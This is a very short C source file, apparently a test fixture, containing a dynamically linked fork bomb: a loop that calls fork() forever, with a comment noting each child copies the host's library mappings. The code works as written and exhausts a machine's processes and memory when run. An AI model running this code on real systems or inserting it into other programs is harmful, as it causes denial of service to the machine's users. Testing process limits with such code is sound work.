/* A fork bomb that is linked dynamically, as most programs are: each fork copies its mappings of
 * the host's libraries. */
#include <unistd.h>

int main(void)
{
	for (;;)
		(void)!fork();
}
